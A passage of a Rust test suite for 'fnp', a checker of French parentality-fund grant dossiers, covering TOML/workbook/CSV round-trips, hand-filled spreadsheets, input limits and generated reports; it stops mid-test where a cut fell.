//! Workbooks and CSV folders: the same dossier in TOML and in a workbook gives the same
//! findings and budget; hand-made workbooks are read as people fill them; conversion is
//! lossless.

use crate::commun;

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use fnp::check::{self, Resultat};
use fnp::ecriture::modele;
use fnp::lecture;
use fnp::model::ecrire_toml;
use fnp::rules::Regles;
use rust_xlsxwriter::{Format, Formula, Workbook};
use serde_json::Value;

fn regles() -> Regles {
    Regles::embarquees().expect("packs")
}

fn verifier(chemin: &Path) -> Resultat {
    let r = regles();
    let affiche = chemin.display().to_string();
    match lecture::lire(chemin, &affiche) {
        Ok(lu) => check::verifier(&affiche, &lu, &r),
        Err(e) => check::illisible(&affiche, e, &r),
    }
}

/// Findings without their locations and words: the same rule, severity and field (a TOML
/// file's findings name keys, a workbook's their labels).
fn essentiel(r: &Resultat) -> Vec<(String, String, String)> {
    let mut v: Vec<_> = r
        .constats
        .iter()
        .map(|c| (c.regle.clone(), c.gravite.to_string(), c.emplacement.champ.clone().unwrap_or_default()))
        .collect();
    v.sort();
    v
}

fn dossiers_toml() -> Vec<PathBuf> {
    // The examples, bilans (examples/bilan/) among them, and the pinned cases.
    let mut v: Vec<PathBuf> = Vec::new();
    for e in commun::fichiers(Path::new("examples")).into_iter().chain(commun::fichiers(Path::new("tests/cases"))) {
        if e.extension().is_some_and(|x| x == "toml") {
            v.push(e);
        }
    }
    v.sort();
    v
}

/// Every readable TOML dossier of the repository, written as a workbook and read back,
/// gives the same dossier, the same findings (apart from locations) and the same budget.
#[test]
fn toml_and_workbook_twins_agree() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut n = 0;
    for chemin in dossiers_toml() {
        let affiche = chemin.display().to_string();
        let Ok(lu) = lecture::lire(&chemin, &affiche) else { continue };
        if !lu.saisies.is_empty() {
            continue; // input errors are located differently by design
        }
        let (octets, _) =
            modele::ecrire(&modele::Options { dossier: Some(&lu.dossier), ..Default::default() }).expect("xlsx");
        let xlsx = dir.path().join(format!("{n}.xlsx"));
        std::fs::write(&xlsx, octets).expect("write");
        let relu = lecture::lire(&xlsx, "x.xlsx").expect("workbook reads back");
        assert_eq!(relu.dossier, lu.dossier, "{affiche}: dossier changed through the workbook");
        let (a, b) = (verifier(&chemin), verifier(&xlsx));
        assert_eq!(essentiel(&a), essentiel(&b), "{affiche}");
        // The same figures; the sentence on what bounds the FNP amount in each medium's words.
        let sans_phrase = |r: &Resultat| {
            r.budget.clone().map(|mut b| {
                let phrase = b.explication.take();
                (b, phrase.is_some())
            })
        };
        assert_eq!(sans_phrase(&a), sans_phrase(&b), "{affiche}");
        if let Some(phrase) = b.budget.as_ref().and_then(|b| b.explication.as_deref()) {
            assert!(
                !phrase.contains("_") && !phrase.contains("true"),
                "{affiche}: keys in a workbook's words: {phrase}"
            );
        }
        assert_eq!(a.verdict, b.verdict, "{affiche}");
        // A workbook's findings speak its words: labels, never a key, a TOML value or a
        // value's code (issue 32).
        for c in &b.constats {
            let m = &c.message;
            let code = [
                "caf-fnp",
                "caf-autre",
                "petit-materiel",
                "heures-complementaires",
                "accueil-inconditionnel",
                "travailleur-social",
                "futurs-parents",
                "docs/",
                " = true",
                " = false",
            ]
            .iter()
            .find(|x| m.contains(*x));
            assert!(code.is_none() && !m.contains("_"), "{affiche}: {} « {m} » ({code:?})", c.regle);
        }
        // And back to TOML.
        let texte = ecrire_toml::ecrire(&relu.dossier, "x.xlsx");
        let retour = lecture::toml::lire_toml(&texte, "retour.toml").expect("TOML reads back");
        assert!(retour.saisies.is_empty(), "{affiche}: {:?}\n{texte}", retour.saisies);
        assert_eq!(retour.dossier, lu.dossier, "{affiche}: dossier changed through TOML");
        n += 1;
    }
    assert!(n > 150, "only {n} dossiers compared");
}

/// A workbook as a person fills it in LibreOffice: headers in another case, with accents
/// and `(€)`, columns in another order, blank rows, a hidden sheet, French text amounts,
/// `oui`/`non`, a typed date, a department typed as a number, a formula with its cached
/// value, an unknown column and an unknown key.
fn classeur_a_la_main(chemin: &Path) {
    classeur_a_la_main_avec(chemin, "Recettes", None);
}

/// The same workbook, its income sheet named `recettes`, with `formule` in a note cell of
/// Dépenses (G2) when given.
fn classeur_a_la_main_avec(chemin: &Path, recettes: &str, formule: Option<&str>) {
    let mut wb = Workbook::new();
    let gras = Format::new().set_bold();
    {
        let f = wb.add_worksheet().set_name("Aide").expect("name");
        f.write_string(0, 0, "Mode d'emploi").expect("w");
        f.set_hidden(true);
    }
    {
        let f = wb.add_worksheet().set_name("DOSSIER").expect("name");
        f.write_string_with_format(0, 0, "champ", &gras).expect("w");
        f.write_string_with_format(0, 1, "Valeur ", &gras).expect("w");
        let lignes: &[(&str, &str)] = &[
            ("format", "1"),
            ("exercice", "2025"),
            ("caf.departement", "#69"),
            ("porteur.nom", "Association Les Petits Pas"),
            ("porteur.statut", "Association"),
            ("porteur.departement", "69"),
            ("porteur.siret", "#73282932000074"),
            ("porteur.finance_caf", "oui"),
            ("porteur.contrat_engagement_republicain", "OUI"),
            ("porteur.charte_parentalite", "vrai"),
            ("", ""),
            ("action.intitule", "Café des parents du mercredi"),
            ("action.axe", "#1"),
            ("action.volet", "#1"),
            ("action.type", "cafe-des-parents"),
            ("action.debut", "08/01/2025"),
            ("action.fin", "2025-12-17"),
            ("action.public", "parents"),
            ("action.projet_parentalite", "oui"),
            ("action.intervenants_qualifies", "oui"),
            ("territoire.communes", "Villeurbanne"),
            ("territoire.qpv", "oui"),
            ("groupe.participants_min", "#8"),
            ("groupe.participants_max", "#12"),
            ("groupe.seances", "#20"),
            ("groupe.frequence", "bimensuelle"),
            ("groupe.enfants_admis", "non"),
            ("indicateurs.participants", "#60"),
            ("indicateurs.parents_differents", "#35"),
            ("indicateurs.seances", "#20"),
            ("indicateurs.presence_moyenne", "#10"),
            ("indicateurs.parents_qpv", "#20"),
            ("porteur.telephone", "04 00 00 00 00"),
        ];
        for (i, (k, v)) in lignes.iter().enumerate() {
            let l = i as u32 + 1;
            if !k.is_empty() {
                f.write_string(l, 0, *k).expect("w");
            }
            if let Some(n) = v.strip_prefix('#') {
                f.write_number(l, 1, n.parse::<f64>().expect("n")).expect("w");
            } else if !v.is_empty() {
                f.write_string(l, 1, *v).expect("w");
            }
        }
    }
    {
        let f = wb.add_worksheet().set_name("dépenses").expect("name");
        for (j, h) in ["Montant (€)", "NATURE", " libellé", "Hausse du temps de travail", "Justificatif", "Commentaire"]
            .iter()
            .enumerate()
        {
            f.write_string_with_format(0, j as u16, *h, &gras).expect("w");
        }
        f.write_string(1, 0, "2 400,00 €").expect("w");
        f.write_string(1, 1, "prestation").expect("w");
        f.write_string(1, 2, "Psychologue intervenante, 20 séances").expect("w");
        // a blank row in the middle
        f.write_formula(3, 0, Formula::new("=900*2").set_result("1800")).expect("w");
        f.write_string(3, 1, "Personnel").expect("w");
        f.write_string(3, 2, "Animatrice, heures complémentaires").expect("w");
        f.write_string(3, 3, "oui").expect("w");
        f.write_string(3, 4, "avenant").expect("w");
        f.write_number(4, 0, 600.0).expect("w");
        f.write_string(4, 1, "fonctionnement").expect("w");
        f.write_string(4, 2, "Quote-part du loyer de l'association").expect("w");
        f.write_string(4, 5, "à revoir").expect("w");
        if let Some(x) = formule {
            f.write_formula(1, 6, Formula::new(x).set_result("0")).expect("w");
        }
    }
    {
        let f = wb.add_worksheet().set_name(recettes).expect("name");
        for (j, h) in ["Financeur", "Montant", "Statut"].iter().enumerate() {
            f.write_string(0, j as u16, *h).expect("w");
        }
        f.write_string(1, 0, "caf-fnp").expect("w");
        f.write_number(1, 1, 3000.0).expect("w");
        f.write_string(2, 0, "Commune").expect("w");
        f.write_string(2, 1, "1800").expect("w");
        f.write_string(2, 2, "acquis").expect("w");
    }
    {
        let f = wb.add_worksheet().set_name("Contributions").expect("name");
        for (j, h) in ["Nature", "Libellé", "Montant (€)"].iter().enumerate() {
            f.write_string(0, j as u16, *h).expect("w");
        }
        f.write_string(1, 0, "benevolat").expect("w");
        f.write_string(1, 1, "Accueil par des parents bénévoles").expect("w");
        f.write_number(1, 2, 900.0).expect("w");
    }
    wb.save(chemin).expect("save");
}

#[test]
fn a_hand_filled_workbook_is_read_as_meant() {
    let dir = tempfile::tempdir().expect("tempdir");
    let xlsx = dir.path().join("petits-pas.xlsx");
    classeur_a_la_main(&xlsx);
    let r = verifier(&xlsx);
    let toml = verifier(Path::new("tests/fixtures/cafe.toml"));
    // Same budget as the TOML twin of format.md.
    assert_eq!(r.budget, toml.budget);
    let regles_vues: Vec<(&str, Option<&str>)> =
        r.constats.iter().map(|c| (c.regle.as_str(), c.emplacement.cellule.as_deref())).collect();
    assert!(regles_vues.contains(&("GEN-DEPENSE-INELIGIBLE", Some("dépenses!B5"))), "{regles_vues:?}");
    assert!(regles_vues.contains(&("SAISIE-CHAMP-INCONNU", Some("DOSSIER!A34"))), "{regles_vues:?}");
    assert!(regles_vues.contains(&("SAISIE-COLONNE-INCONNUE", Some("dépenses!F1"))), "{regles_vues:?}");
    assert!(regles_vues.contains(&("L69-TERRITOIRE-PRIORITAIRE", Some("DOSSIER!B23"))), "{regles_vues:?}");
    let inconnu = r.constats.iter().find(|c| c.regle == "SAISIE-CHAMP-INCONNU").expect("unknown key");
    assert!(inconnu.message.contains("porteur.telephone"), "{}", inconnu.message);
    // Rules v4: the counted staff line of a bearer funded by the Caf otherwise is recalled,
    // at its amount's cell.
    assert!(regles_vues.contains(&("GEN-FINANCE-CAF", Some("dépenses!A4"))), "{regles_vues:?}");
    assert_eq!(r.constats.len(), 5, "{:#?}", r.constats);
}

#[test]
fn wrong_cells_are_named() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wb = Workbook::new();
    let f = wb.add_worksheet().set_name("Dossier").expect("name");
    f.write_string(0, 0, "Champ").expect("w");
    f.write_string(0, 1, "Valeur").expect("w");
    f.write_string(1, 0, "exercice").expect("w");
    f.write_string(1, 1, "deux mille").expect("w");
    f.write_string(2, 0, "action.debut").expect("w");
    f.write_string(2, 1, "31/02/2025").expect("w");
    f.write_string(3, 0, "caf.departement").expect("w");
    f.write_number(3, 1, 20.0).expect("w");
    let f = wb.add_worksheet().set_name("Dépenses").expect("name");
    f.write_string(0, 0, "Nature").expect("w");
    f.write_string(0, 1, "Libellé").expect("w");
    f.write_string(0, 2, "Montant (€)").expect("w");
    f.write_string(1, 0, "prestation").expect("w");
    f.write_string(1, 1, "Intervenante").expect("w");
    f.write_string(1, 2, "douze cents").expect("w");
    f.write_string(2, 0, "cadeaux").expect("w");
    f.write_string(2, 1, "Goûter").expect("w");
    f.write_number(2, 2, 12.345).expect("w");
    let chemin = dir.path().join("faux.xlsx");
    wb.save(&chemin).expect("save");
    let r = verifier(&chemin);
    let vus: Vec<(&str, &str)> =
        r.constats.iter().filter_map(|c| c.emplacement.cellule.as_deref().map(|x| (c.regle.as_str(), x))).collect();
    for attendu in [
        ("SAISIE-TYPE", "Dossier!B2"),
        ("SAISIE-DATE", "Dossier!B3"),
        ("SAISIE-TYPE", "Dossier!B4"),
        ("SAISIE-MONTANT", "Dépenses!C2"),
        ("SAISIE-TYPE", "Dépenses!A3"),
        ("SAISIE-MONTANT", "Dépenses!C3"),
    ] {
        assert!(vus.contains(&attendu), "{attendu:?} in {vus:?}");
    }
    assert!(r.budget.is_none(), "a rejected line leaves the budget uncomputed");
}

fn fnp() -> Command {
    let mut c = Command::cargo_bin("fnp").expect("binary");
    c.env("NO_COLOR", "1");
    c
}

#[test]
fn csv_folders_as_french_excel_exports_them() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path().join("petits-pas");
    std::fs::create_dir(&d).expect("mkdir");
    // Windows-1252, `;`, decimal commas.
    let dossier = "Champ;Valeur;Aide\r\nformat;1;\r\nexercice;2025;\r\ncaf.departement;69;\r\nporteur.nom;Association Les Petits Pas;\r\nporteur.statut;association;\r\nporteur.departement;69;\r\nporteur.charte_parentalite;oui;\r\nporteur.contrat_engagement_republicain;oui;\r\naction.intitule;Caf\u{e9} des parents;\r\naction.axe;1;\r\naction.volet;1;\r\naction.type;cafe-des-parents;\r\naction.debut;08/01/2025;\r\naction.fin;17/12/2025;\r\naction.public;parents;\r\ngroupe.participants_min;8;\r\ngroupe.participants_max;12;\r\ngroupe.seances;20;\r\nindicateurs.participants;60;\r\nindicateurs.parents_differents;35;\r\nindicateurs.seances;20;\r\nindicateurs.presence_moyenne;10;\r\n";
    let (octets, _, _) = encoding_rs::WINDOWS_1252.encode(dossier);
    std::fs::write(d.join("Dossier.csv"), octets).expect("write");
    // UTF-8 with BOM, `,` separator.
    std::fs::write(
        d.join("Depenses.csv"),
        "\u{feff}Nature,Libellé,Montant (€)\nprestation,Psychologue,\"2400,00\"\nlocation,Salle,abc\n",
    )
    .expect("write");
    std::fs::write(d.join("Recettes.csv"), "Financeur;Montant\ncaf-fnp;1900\ncommune;500\n").expect("write");
    let sortie = fnp().args(["check", "--format", "json"]).arg(dir.path()).output().expect("runs");
    let v: Value = serde_json::from_slice(&sortie.stdout).expect("JSON");
    let d0 = &v["dossiers"][0];
    assert_eq!(d0["source"], commun::chemin_stable(&d));
    let montant =
        d0["constats"].as_array().expect("array").iter().find(|c| c["regle"] == "SAISIE-MONTANT").expect("bad amount");
    assert_eq!(montant["emplacement"]["fichier"], commun::chemin_stable(&d.join("Depenses.csv")));
    assert_eq!(montant["emplacement"]["ligne"], 3);
    assert_eq!(montant["emplacement"]["colonne"], 3);
    let intitule: Vec<&str> =
        d0["constats"].as_array().expect("array").iter().filter_map(|c| c["regle"].as_str()).collect();
    assert!(!intitule.contains(&"SAISIE-TYPE"), "Windows-1252 text read: {intitule:?}");
    // Converted to TOML, the accented title survives.
    let o = fnp().arg("convert").arg(&d).args(["-o", "-"]).output().expect("runs");
    assert_eq!(o.status.code(), Some(2), "a rejected amount refuses the conversion");
    assert!(String::from_utf8_lossy(&o.stderr).contains("abc"));
}

/// A CSV dossier given as its files' names and bytes (what the web page holds for a dropped
/// folder) reads as the same folder on disk: the same dossier, findings and places; other
/// files are passed over, and a set without Dossier.csv is unreadable in French.
#[test]
fn a_csv_dossier_from_its_bytes_reads_as_its_folder() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path().join("petits-pas");
    std::fs::create_dir(&d).expect("mkdir");
    let fichiers = [
        ("Dossier.csv", "Champ;Valeur\nformat;1\nexercice;2025\naction.intitule;Caf\u{e9}\naction.axe;1\naction.volet;1\naction.type;cafe-des-parents\n".as_bytes()),
        ("dépenses.CSV", "Nature;Libellé;Montant\nprestation;Psychologue;2400,00\nlocation;Salle;abc\n".as_bytes()),
        ("Recettes.csv", "Financeur;Montant\ncaf-fnp;1900\n".as_bytes()),
        ("notes.txt", b"rien".as_slice()),
    ];
    for (nom, octets) in fichiers {
        std::fs::write(d.join(nom), octets).expect("write");
    }
    let du_disque = lecture::lire(&d, "petits-pas").expect("folder read");
    let octets: Vec<(String, Vec<u8>)> =
        fichiers.iter().map(|(nom, o)| (lecture::texte_chemin(&d.join(nom)), o.to_vec())).collect();
    let des_octets =
        lecture::lire_csv_octets("petits-pas", octets, &lecture::limites::Limites::default()).expect("bytes read");
    assert_eq!(format!("{:?}", des_octets.dossier), format!("{:?}", du_disque.dossier));
    assert_eq!(format!("{:?}", des_octets.saisies), format!("{:?}", du_disque.saisies));
    // The findings as `fnp check --format json` gives them, each at its place.
    let regles = Regles::embarquees().expect("rules");
    let json = |lu: &lecture::Lu| {
        serde_json::to_string(&fnp::report::json::document(&[check::verifier("petits-pas", lu, &regles)]))
            .expect("json")
    };
    let (lus, attendus) = (json(&des_octets), json(&du_disque));
    assert_eq!(lus, attendus);
    assert!(lus.contains("dépenses.CSV"), "the bad amount is placed in its file: {lus}");
    let sans = lecture::lire_csv_octets(
        "x",
        vec![("x/Depenses.csv".into(), b"Nature;Montant\n".to_vec())],
        &lecture::limites::Limites::default(),
    )
    .expect_err("no Dossier.csv");
    assert!(sans.detail().contains("pas de fichier Dossier.csv"), "{}", sans.detail());
}

#[test]
fn unreadable_workbooks_become_illisible_and_the_batch_goes_on() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("a-faux.xlsx"), b"ceci n'est pas un classeur").expect("write");
    let mut bon = Vec::new();
    let lu = lecture::lire(Path::new("examples/1.1-conference.toml"), "x").expect("example");
    let (octets, _) =
        modele::ecrire(&modele::Options { dossier: Some(&lu.dossier), ..Default::default() }).expect("xlsx");
    bon.extend_from_slice(&octets);
    std::fs::write(dir.path().join("b-bon.xlsx"), &bon).expect("write");
    std::fs::write(dir.path().join("c-tronque.xlsx"), &bon[..bon.len() / 2]).expect("write");
    std::fs::write(dir.path().join("d-vide.ods"), b"").expect("write");
    let sortie = fnp().args(["check", "--format", "json"]).arg(dir.path()).output().expect("runs");
    assert_eq!(sortie.status.code(), Some(2));
    let v: Value = serde_json::from_slice(&sortie.stdout).expect("JSON");
    let verdicts: Vec<&str> =
        v["dossiers"].as_array().expect("array").iter().filter_map(|d| d["verdict"].as_str()).collect();
    assert_eq!(verdicts, ["illisible", "conforme", "illisible", "illisible"]);
    for i in [0, 2, 3] {
        let c = &v["dossiers"][i]["constats"][0];
        assert_eq!(c["regle"], "LECTURE");
        assert!(!c["message"].as_str().unwrap_or("").is_empty());
    }
}

#[test]
fn limits_refuse_before_work() {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wb = Workbook::new();
    let f = wb.add_worksheet().set_name("Dossier").expect("name");
    for i in 0..50 {
        f.write_string(i, 0, format!("cle{i}")).expect("w");
    }
    let chemin = dir.path().join("long.xlsx");
    wb.save(&chemin).expect("save");
    let sortie = fnp().args(["check", "--format", "json", "--max-rows", "10"]).arg(&chemin).output().expect("runs");
    let v: Value = serde_json::from_slice(&sortie.stdout).expect("JSON");
    assert_eq!(v["dossiers"][0]["verdict"], "illisible");
    assert!(v["dossiers"][0]["constats"][0]["message"].as_str().unwrap_or("").contains("--max-rows"));
    let sortie = fnp()
        .args(["check", "--format", "json", "--max-size", "0"])
        .arg("examples/1.1-conference.toml")
        .output()
        .expect("runs");
    let v: Value = serde_json::from_slice(&sortie.stdout).expect("JSON");
    assert!(v["dossiers"][0]["constats"][0]["message"].as_str().unwrap_or("").contains("--max-size"));
    // --max-rows counts data rows, not the header: a Dépenses sheet of exactly the limit is
    // read, one line more is refused.
    for (lignes, lisible) in [(10u32, true), (11, false)] {
        let mut wb = Workbook::new();
        let f = wb.add_worksheet().set_name("Dossier").expect("name");
        f.write_string(0, 0, "Champ").expect("w");
        f.write_string(0, 1, "Valeur").expect("w");
        f.write_string(1, 0, "format").expect("w");
        f.write_number(1, 1, 1.0).expect("w");
        let d = wb.add_worksheet().set_name("Dépenses").expect("name");
        for (c, h) in ["Nature", "Libellé", "Montant (€)"].iter().enumerate() {
            d.write_string(0, c as u16, *h).expect("w");
        }
        for i in 1..=lignes {
            d.write_string(i, 0, "prestation").expect("w");
            d.write_string(i, 1, format!("ligne {i}")).expect("w");
            d.write_number(i, 2, 10.0).expect("w");
        }
        let chemin = dir.path().join(format!("depenses-{lignes}.xlsx"));
        wb.save(&chemin).expect("save");
        let sortie = fnp().args(["check", "--format", "json", "--max-rows", "10"]).arg(&chemin).output().expect("runs");
        let v: Value = serde_json::from_slice(&sortie.stdout).expect("JSON");
        assert_eq!(v["dossiers"][0]["verdict"] != "illisible", lisible, "{lignes}: {v:#}");
    }
}

#[test]
fn reports_and_annotated_copies() {
    let dir = tempfile::tempdir().expect("tempdir");
    let entree = dir.path().join("entree");
    std::fs::create_dir(&entree).expect("mkdir");
    classeur_a_la_main(&entree.join("petits-pas.xlsx"));
    std::fs::copy("examples/3.1-lieu-ressource.toml", entree.join("lieu.toml")).expect("copy");
    let avant = std::fs::read(entree.join("petits-pas.xlsx")).expect("read");
    let rapport = dir.path().join("rapport");
    let annotes = dir.path().join("annotes");
    let o = fnp()
        .arg("check")
        .arg(&entree)
        .arg("--report")
        .arg(&rapport)
        .arg("--annotate")
        .arg(&annotes)
        .output()
        .expect("runs");
    // The unknown key of the workbook is an error: exit 1.
    assert_eq!(o.status.code(), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(std::fs::read(entree.join("petits-pas.xlsx")).expect("read"), avant, "input untouched");
    let json: Value =
        serde_json::from_slice(&std::fs::read(rapport.join("synthese.json")).expect("json")).expect("JSON");
    let csv = std::fs::read_to_string(rapport.join("synthese.csv")).expect("csv");
    // Rules v4: « Bilan » beside the verdict (empty for a dossier without actual values).
    assert!(csv.starts_with("\u{feff}Fichier;Chemin;Verdict;Bilan;Porteur;Exercice"), "{csv}");
    assert!(csv.contains("Montant FNP maximal") && csv.contains("non conforme"), "{csv}");
    // Issue 33: the file's name first, its path beside it; the type in words beside its code,
    // the rules' titles beside their ids.
    let ligne = csv.lines().find(|l| l.starts_with("petits-pas.xlsx;")).unwrap_or_else(|| panic!("{csv}"));
    assert!(
        ligne.contains("petits-pas.xlsx;") && ligne.split(';').nth(1).is_some_and(|c| c.ends_with("petits-pas.xlsx")),
        "{ligne}"
    );
    assert!(csv.contains("Type d'action;Type (code)") && csv.contains("Règles;Règles (titres)"), "{csv}");
    // One row per finding, with its message, its cell and its source by title.
    let constats = std::fs::read_to_string(rapport.join("constats.csv")).expect("constats.csv");
    assert!(
        constats.starts_with("\u{feff}Fichier;Chemin;Verdict;Porteur;Règle;Règle (titre);Gravité;Message;Où"),
        "{constats}"
    );
    assert!(constats.contains("SAISIE-CHAMP-INCONNU") && constats.contains("(DOSSIER!A34)"), "{constats}");
    assert!(constats.contains("Cnaf — Fonds national parentalité"), "{constats}");
    assert_eq!(
        constats.lines().count() - 1,
        json["dossiers"].as_array().map_or(0, |d| d.iter().map(|x| x["constats"].as_array().map_or(0, Vec::len)).sum()),
        "one row per finding"
    );
    assert_eq!(json["synthese"]["dossiers"], 2);
    let html = std::fs::read_to_string(rapport.join("rapport.html")).expect("html");
    assert!(html.contains("Association Les Petits Pas") && html.contains("dépenses!B5"));
    assert!(!html.contains("src=\"http") && !html.contains("<link"));
    // One annotated copy, for the workbook only, with a note and the Anomalies sheet.
    // (Beside it, hidden, fnp's mark of a folder it created and its lock: `.fnp-sortie`, `.fnp-verrou`.)
    let copies: Vec<_> = std::fs::read_dir(&annotes)
        .expect("dir")
        .flatten()
        .map(|e| e.file_name())
        .filter(|n| !n.to_string_lossy().starts_with('.'))
        .collect();
    assert_eq!(copies, ["petits-pas.annote.xlsx"]);
    let copie = annotes.join("petits-pas.annote.xlsx");
    let relu = lecture::lire(&copie, "copie").expect("annotated copy reads");
    assert_eq!(relu.dossier.depenses.len(), 3);
    let zip = std::fs::read(&copie).expect("read");
    let texte = String::from_utf8_lossy(&zip);
    assert!(texte.contains("comments1.xml"), "a note on a cell");
    // Running again does not overwrite without --force.
    let o = fnp().arg("check").arg(&entree).arg("--report").arg(&rapport).output().expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("--force"));
}

#[test]
fn template_has_every_key_and_reads_back_empty() {
    let dir = tempfile::tempdir().expect("tempdir");
    let modele = dir.path().join("modele.xlsx");
    fnp().args(["template", "-o"]).arg(&modele).assert().code(0);
    let lu = lecture::lire(&modele, "modele.xlsx").expect("template reads");
    // Empty but for the format, filled as sent.
    assert_eq!(lu.dossier.champs.keys().copied().collect::<Vec<_>>(), vec!["format"]);
    // Every required key is reported missing, none unknown.
    assert!(lu.saisies.iter().all(|s| s.regle == "SAISIE-CHAMP-MANQUANT"), "{:?}", lu.saisies);
    fnp().args(["template", "-o"]).arg(&modele).assert().code(2);
}

/// A workbook's sheets as grids of cells (calamine), each from A1.
pub fn grilles(chemin: &Path) -> Vec<(String, Vec<Vec<calamine::Data>>)> {
    use calamine::Reader;
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(chemin).expect("xlsx");
    let noms = wb.sheet_names().to_vec();
    noms.into_iter()
        .map(|nom| {
            let plage = wb.worksheet_range(&nom).expect("sheet");
            let (l0, c0) = plage.start().unwrap_or((0, 0));
            let mut lignes: Vec<Vec<calamine::Data>> = vec![Vec::new(); l0 as usize];
            for r in plage.rows() {
                let mut ligne = vec![calamine::Data::Empty; c0 as usize];
                ligne.extend(r.iter().cloned());
                lignes.push(ligne);
            }
            (nom, lignes)
        })
        .collect()
}

/// Writes grids back as a plain workbook, as a person's tool would (numbers, texts, booleans;
/// dates as their serial numbers).
pub fn ecrire_grilles(chemin: &Path, feuilles: &[(String, Vec<Vec<calamine::Data>>)]) {
    use calamine::Data;
    let mut wb = Workbook::new();
    for (nom, lignes) in feuilles {
        let f = wb.add_worksheet().set_name(nom).expect("name");
        for (i, r) in lignes.iter().enumerate() {
            for (j, c) in r.iter().enumerate() {
                let (i, j) = (i as u32, j as u16);
                match c {
                    Data::Empty => {}
                    Data::String(t) => {
                        f.write_string(i, j, t).expect("w");
                    }
                    Data::Float(x) => {
                        f.write_number(i, j, *x).expect("w");
                    }
                    Data::Int(n) => {
                        f.write_number(i, j, *n as f64).expect("w");
                    }
                    Data::Bool(b) => {
                        f.write_boolean(i, j, *b).expect("w");
                    }
                    Data::DateTime(d) => {
                        f.write_number(i, j, d.as_f64()).expect("w");
                    }
                    autre => panic!("cell {autre:?}"),
                }
            }
        }
    }
    wb.save(chemin).expect("save");
}

/// The Dossier grid of a workbook, transformed.
fn dossier_change(source: &Path, cible: &Path, changer: impl Fn(Vec<Vec<calamine::Data>>) -> Vec<Vec<calamine::Data>>) {
    let feuilles: Vec<_> = grilles(source)
        .into_iter()
        .map(|(nom, g)| if nom == "Dossier" { (nom, changer(g)) } else { (nom, g) })
        .collect();
    ecrire_grilles(cible, &feuilles);
}

fn texte(c: &calamine::Data) -> String {
    match c {
        calamine::Data::String(s) => s.clone(),
        _ => String::new(),
    }
}

/// Column A labels, B values, C help and D (hidden) keys: what the template's Dossier sheet
/// holds, and what a converted dossier holds.
#[test]
fn the_template_shows_labels_and_keeps_its_keys_hidden() {
    let dir = tempfile::tempdir().expect("tempdir");
    let modele = dir.path().join("modele.xlsx");
    fnp().args(["template", "-o"]).arg(&modele).assert().code(0);
    let g = grilles(&modele);
    assert_eq!(
        g.iter().map(|(n, _)| n.as_str()).collect::<Vec<_>>(),
        ["Dossier", "Dépenses", "Recettes", "Contributions"]
    );
    let dossier = &g[0].1;
    assert_eq!(texte(&dossier[0][0]), "Champ (* : obligatoire)");
    assert_eq!(texte(&dossier[0][3]), "Clé");
    let mut cles = Vec::new();
    for r in &dossier[1..] {
        let (a, d) = (texte(&r[0]), r.get(3).map(texte).unwrap_or_default());
        if d.is_empty() {
            assert!(fnp::model::schema::est_titre_section(&a), "a heading: {a}");
            continue;
        }
        let champ = fnp::model::schema::champ(&d).expect("a key in column D");
        let attendu = if champ.requis { format!("{} *", champ.libelle) } else { champ.libelle.to_string() };
        assert_eq!(a, attendu);
        assert!(texte(&r[2]).starts_with(if champ.requis { "Obligatoire. " } else { "" }));
        cles.push(d);
    }
    let toutes: Vec<&str> = fnp::model::schema::champs::CHAMPS.iter().map(|c| c.cle).collect();
    assert_eq!(cles, toutes, "every key once, in the order of format.md");
    // The sheet as Excel and LibreOffice get it: the key column hidden, the Dossier sheet
    // protected but rows can be inserted, every sheet printed on A4 landscape, one page wide,
    // its header row repeated.
    let archive = std::fs::read(&modele).expect("read");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(archive)).expect("zip");
    let mut partie = |nom: &str| {
        let mut t = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(nom).expect(nom), &mut t).expect("utf-8");
        t
    };
    let feuille = partie("xl/worksheets/sheet1.xml");
    assert!(feuille.contains(r#"<col min="4" max="4" width="36.7109375" hidden="1""#), "{feuille}");
    assert!(feuille.contains(r#"<sheetProtection sheet="1""#) && feuille.contains(r#"insertRows="0""#), "{feuille}");
    for k in 1..=4 {
        let f = partie(&format!("xl/worksheets/sheet{k}.xml"));
        assert!(f.contains(r#"<pageSetUpPr fitToPage="1"/>"#), "sheet {k}");
        assert!(f.contains(r#"paperSize="9" fitToHeight="0" orientation="landscape""#), "sheet {k}");
        if k > 1 {
            assert!(!f.contains("<sheetProtection"), "sheet {k}: rows are inserted freely in the line sheets");
        }
    }
    let classeur = partie("xl/workbook.xml");
    for nom in ["Dossier", "Dépenses", "Recettes", "Contributions"] {
        assert!(classeur.contains(&format!(">{nom}!$1:$1<")), "{nom}: header row on every page");
    }
    // Blank, it says which values to fill, at their cells.
    let lu = lecture::lire(&modele, "modele.xlsx").expect("reads");
    let nom = lu.saisies.iter().find(|s| s.champ == "porteur.nom").expect("porteur.nom missing");
    assert!(nom.message.contains("« Nom de la structure » est obligatoire"), "{}", nom.message);
    assert!(!nom.message.contains("porteur.nom"), "no key where a workbook user reads: {}", nom.message);
}

/// What people do to the rows of a filled template (move them, retype the labels, lose the key
/// column, add a note, use the dotted keys of older workbooks) reads the same dossier; a label
/// mistyped with no key column to tell is an error with the label meant.
#[test]
fn a_filled_template_reads_the_same_whatever_is_done_to_its_rows() {
    use calamine::Data;
    let dir = tempfile::tempdir().expect("tempdir");
    let toml = Path::new("examples/1.1-cafe-des-parents.toml");
    let xlsx = dir.path().join("cafe.xlsx");
    fnp().arg("convert").arg(toml).arg("-o").arg(&xlsx).assert().code(0);
    let attendu = lecture::lire(toml, "cafe.toml").expect("example").dossier;
    let jumeau = verifier(toml);
    let sans_cle =
        |g: Vec<Vec<Data>>| -> Vec<Vec<Data>> { g.into_iter().map(|r| r.into_iter().take(3).collect()).collect() };
    type Changement = Box<dyn Fn(Vec<Vec<Data>>) -> Vec<Vec<Data>>>;
    let cas: Vec<(&str, Changement)> = vec![
        ("as written", Box::new(|g| g)),
        (
            "rows in reverse order",
